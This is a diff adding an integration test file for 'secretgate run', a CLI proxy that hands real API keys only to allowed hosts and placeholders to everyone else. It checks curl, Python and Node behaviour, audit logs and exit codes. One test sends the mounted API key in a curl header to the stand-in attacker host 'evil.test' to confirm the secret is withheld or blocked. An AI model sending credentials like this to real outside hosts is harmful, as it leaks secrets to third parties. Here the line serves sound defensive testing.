@@ -1,0 +1,186 @@
+/**
+ * `secretgate run` as a user runs it: the CLI as a child process, on a filesystem store, running
+ * curl, python3 and node against a real HTTPS server on 127.0.0.1 (names pinned with `--resolve`,
+ * its test CA trusted with `--upstream-ca`). The upstream gets the value; everything the child can
+ * see (its environment, the echoed response) holds only the placeholder.
+ */
+import { spawn, spawnSync } from "node:child_process"
+import { mkdtempSync, readdirSync, readFileSync, rmSync } from "node:fs"
+import { tmpdir } from "node:os"
+import { join } from "node:path"
+import { fileURLToPath } from "node:url"
+import { afterAll, beforeAll, describe, expect, it } from "vitest"
+import { startUpstream, type Upstream } from "../../undici/test/support/upstream.js"
+import { BIN, cleanEnv, type Result, secretgate } from "./support/cli.js"
+
+const VALUE = "sk-run-Zq9xV2bN7-only-upstream-sees-this"
+const CA_FILE = fileURLToPath(new URL("../../undici/test/fixtures/tls/ca.pem", import.meta.url))
+const has = (tool: string) => spawnSync(tool, ["--version"], { stdio: "ignore" }).status === 0
+const CURL = has("curl")
+const PYTHON = has("python3")
+
+let root: string
+let store: string
+let upstream: Upstream
+let placeholder: string
+
+beforeAll(async () => {
+  root = mkdtempSync(join(tmpdir(), "secretgate-run-"))
+  store = join(root, "store")
+  const created = await secretgate(["secret", "create", "openai", "--host", "api.allowed.test", "--json"], { env: { SECRETGATE_STORE: store }, input: VALUE })
+  expect(created.code).toBe(0)
+  placeholder = (JSON.parse(created.stdout) as { placeholder: string }).placeholder
+  const unused = await secretgate(["secret", "create", "unused", "--host", "api.allowed.test"], { env: { SECRETGATE_STORE: store }, input: "unused-value" })
+  expect(unused.code).toBe(0)
+  upstream = await startUpstream()
+}, 300_000)
+
+afterAll(async () => {
+  await upstream?.close()
+  rmSync(root, { recursive: true, force: true })
+})
+
+const url = (host: string, path: string) => `https://${host}:${upstream.port}${path}`
+
+/** `secretgate run` with the test's pins and CA, and a private TMPDIR to check what it leaves. */
+const run = async (
+  options: ReadonlyArray<string>,
+  command: ReadonlyArray<string>,
+  env: Record<string, string> = {}
+): Promise<Result & { readonly leftInTmp: ReadonlyArray<string> }> => {
+  const tmp = mkdtempSync(join(root, "tmp-"))
+  const result = await secretgate(
+    [
+      "run",
+      "--store", store,
+      "--resolve", "api.allowed.test:127.0.0.1",
+      "--resolve", "evil.test:127.0.0.1",
+      "--upstream-ca", CA_FILE,
+      ...options,
+      "--",
+      ...command
+    ],
+    { env: { TMPDIR: tmp, SECRETGATE_KEY: undefined as never, ...env } }
+  )
+  // (tsx-*: the TypeScript loader's cache, there only when the CLI runs from its sources)
+  return { ...result, leftInTmp: readdirSync(tmp).filter((name) => !name.startsWith("tsx-")) }
+}
+
+const lastReceived = () => upstream.received.at(-1)!
+
+describe.skipIf(!CURL)("secretgate run -- curl", () => {
+  it("the allowed host receives the value; curl's output (the echo) and its environment hold the placeholder", async () => {
+    const before = upstream.received.length
+    const result = await run(["--mount", "OPENAI_API_KEY=openai", "--mount", "UNUSED=unused"], [
+      "sh", "-c", `curl -sS --fail -H "Authorization: Bearer $OPENAI_API_KEY" ${url("api.allowed.test", "/echo")} && echo && env`
+    ])
+    expect(result.stderr).toContain("openai: 1 substituted, 0 withheld, 0 blocked")
+    expect(result.stderr).toMatch(/unused: 0 substituted, 0 withheld, 0 blocked — never used/)
+    expect(result.code).toBe(0)
+    expect(upstream.received.length).toBe(before + 1)
+    expect(lastReceived().headers["authorization"]).toBe(`Bearer ${VALUE}`)
+    expect(result.stdout).toContain(`"authorization":"Bearer ${placeholder}"`)
+    expect(result.stdout).toContain(`OPENAI_API_KEY=${placeholder}`)
+    expect(result.stdout).toMatch(/^HTTPS_PROXY=http:\/\/sg:[^@]+@127\.0\.0\.1:\d+$/m)
+    expect(result.stdout).toMatch(/^NO_PROXY=localhost,127\.0\.0\.1,::1$/m)
+    expect(result.stdout).not.toMatch(/^SECRETGATE_/m)
+    for (const text of [result.stdout, result.stderr, result.argv.join(" ")]) expect(text).not.toContain(VALUE)
+    expect(result.leftInTmp).toEqual([])
+  }, 300_000)
+
+  it("a disallowed host gets the placeholder (forward), or the request is refused (block) and never arrives", async () => {
+    // evil.test is tunnelled untouched: curl sees the upstream's own certificate, from the test CA
+    const trustBoth = `cat "$CURL_CA_BUNDLE" ${CA_FILE} > "$TMPDIR/both.pem" && curl --cacert "$TMPDIR/both.pem"`
+    const forwarded = await run(["--mount", "OPENAI_API_KEY=openai"], [
+      "sh", "-c", `${trustBoth} -sS --fail -H "Authorization: Bearer $OPENAI_API_KEY" ${url("evil.test", "/echo")}; rm "$TMPDIR/both.pem"`
+    ])
+    expect(forwarded.code).toBe(0)
+    expect(lastReceived().headers["authorization"]).toBe(`Bearer ${placeholder}`)
+    expect(forwarded.stderr).toContain("openai: 0 substituted, 1 withheld, 0 blocked")
+
+    const before = upstream.received.length
+    const blocked = await run(["--mount", "OPENAI_API_KEY=openai", "--on-disallowed", "block"], [
+      "sh", "-c", `curl -sS -o /dev/null -w '%{http_code}' -H "Authorization: Bearer $OPENAI_API_KEY" ${url("evil.test", "/echo")}`
+    ])
+    expect(blocked.stdout).not.toBe("200")
+    expect(upstream.received.length).toBe(before)
+    expect(blocked.stderr).toContain("openai: 0 substituted, 0 withheld, 1 blocked")
+  }, 300_000)
+
+  it("writes the audit events as JSON lines, without a value", async () => {
+    const auditFile = join(root, "audit.jsonl")
+    const result = await run(["--mount", "OPENAI_API_KEY=openai", "--audit", auditFile, "--quiet"], [
+      "sh", "-c", `curl -sS --fail -o /dev/null -H "x-api-key: $OPENAI_API_KEY" ${url("api.allowed.test", "/echo")}`
+    ])
+    expect(result.code).toBe(0)
+    expect(result.stderr).toBe("")
+    const text = readFileSync(auditFile, "utf8")
+    expect(text).not.toContain(VALUE)
+    const events = text.trim().split("\n").map((line) => JSON.parse(line) as { type: string; secret?: string; host?: string })
+    expect(events).toEqual(expect.arrayContaining([
+      expect.objectContaining({ type: "intercepted", host: "api.allowed.test" }),
+      expect.objectContaining({ type: "substituted", secret: "openai", host: "api.allowed.test" })
+    ]))
+  }, 300_000)
+})
+
+describe.skipIf(!PYTHON)("secretgate run -- python3", () => {
+  it("urllib's request carries the value upstream; the program sees the placeholder", async () => {
+    const script = [
+      "import os, urllib.request",
+      `req = urllib.request.Request("${url("api.allowed.test", "/echo")}", headers={"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]})`,
+      "print(urllib.request.urlopen(req).read().decode())"
+    ].join("\n")
+    const result = await run(["--mount", "OPENAI_API_KEY=openai"], ["python3", "-c", script])
+    expect(result.stderr).toContain("openai: 1 substituted")
+    expect(result.code).toBe(0)
+    expect(lastReceived().headers["authorization"]).toBe(`Bearer ${VALUE}`)
+    expect(result.stdout).toContain(`Bearer ${placeholder}`)
+    expect(result.stdout).not.toContain(VALUE)
+  }, 300_000)
+})
+
+describe("secretgate run -- node", () => {
+  it("Node 20's global fetch goes through the proxy (preload), carrying the value upstream", async () => {
+    const script = `const r = await fetch("${url("api.allowed.test", "/echo")}", { headers: { authorization: "Bearer " + process.env.OPENAI_API_KEY } }); console.log(await r.text())`
+    const result = await run(["--mount", "OPENAI_API_KEY=openai"], [process.execPath, "--input-type=module", "-e", script])
+    expect(result.stderr).toContain("openai: 1 substituted")
+    expect(result.code).toBe(0)
+    expect(lastReceived().headers["authorization"]).toBe(`Bearer ${VALUE}`)
+    expect(result.stdout).toContain(`Bearer ${placeholder}`)
+    expect(result.stdout).not.toContain(VALUE)
+  }, 300_000)
+
+  it("passes the exit code through, and 128 + n for a signal", async () => {
+    expect((await run(["--mount", "K=openai", "--quiet"], ["sh", "-c", "exit 7"])).code).toBe(7)
+    expect((await run(["--mount", "K=openai", "--quiet"], ["sh", "-c", "kill -TERM $$"])).code).toBe(143)
+  }, 300_000)
+
+  it("forwards SIGTERM to the child, and exits as it does", async () => {
+    const tmp = mkdtempSync(join(root, "tmp-"))
+    const child = spawn(process.execPath, [BIN, "run", "--store", store, "--mount", "K=openai", "--quiet", "--", "sh", "-c", `trap 'exit 42' TERM; echo ready; while true; do sleep 0.1; done`], {
+      env: cleanEnv({ TMPDIR: tmp }),
+      stdio: ["ignore", "pipe", "pipe"]
+    })
+    await new Promise<void>((resolve, reject) => {
+      child.stdout.on("data", (chunk: Buffer) => chunk.toString().includes("ready") && resolve())
+      child.once("exit", (code) => reject(new Error(`exited early with ${code}`)))
+    })
+    child.kill("SIGTERM")
+    const code = await new Promise<number | null>((resolve) => child.once("exit", (code) => resolve(code)))
+    expect(code).toBe(42)
+    expect(readdirSync(tmp).filter((name) => !name.startsWith("tsx-"))).toEqual([])
+  }, 300_000)
+
+  it("reports every missing secret at once (exit 3), and a missing program (exit 3), before running anything", async () => {
+    const missing = await run(["--mount", "A=nope", "--mount", "B=nada", "--mount", "C=openai"], ["sh", "-c", "echo ran"])
+    expect(missing.code).toBe(3)
+    expect(missing.stdout).toBe("")
+    expect(missing.stderr.trim()).toBe(`secretgate: secrets "nope", "nada" not found`)
+    const noProgram = await run(["--mount", "K=openai", "--quiet"], ["definitely-not-a-program-secretgate"])
+    expect(noProgram.code).toBe(3)
+    expect(noProgram.stderr.trim()).toBe("secretgate: definitely-not-a-program-secretgate: command not found")
+    const noMount = await run([], ["sh", "-c", "echo ran"])
+    expect(noMount.code).toBe(2)
+  }, 300_000)
+})
